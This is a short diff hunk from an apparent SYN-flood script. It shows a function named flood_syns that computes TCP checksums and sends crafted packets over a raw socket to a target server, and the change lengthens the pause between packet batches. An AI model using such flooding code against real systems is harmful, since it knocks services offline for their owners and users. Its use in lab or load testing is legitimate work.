@@ -162,7 +162,7 @@ def flood_syns(count):
         head = head[:16] + struct.pack(">H", 65535 - (total & 65535) - (total >> 16)) + head[18:]
         raw.sendto(ip_packet(src, server, head), (SERVER, 0))
         if number % 50 == 0:
-            time.sleep(0.002)
+            time.sleep(0.004)
     raw.close()
 
 
